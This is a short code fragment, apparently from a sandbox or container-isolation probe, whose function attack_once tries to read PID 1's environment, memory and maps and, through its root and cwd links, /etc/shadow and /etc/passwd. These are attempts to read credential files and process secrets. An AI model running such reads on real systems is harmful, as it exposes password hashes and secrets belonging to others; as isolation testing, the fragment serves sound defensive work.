// Reads the environment and memory of the process that started it.
static void attack_once() {
    TRY("environ", get("/proc/1/environ"));
    TRY("memory", get("/proc/1/mem"));
    TRY("maps", get("/proc/1/maps"));
    TRY("root", get("/proc/1/root/etc/shadow"));
    TRY("cwd", get("/proc/1/cwd/etc/passwd"));
}
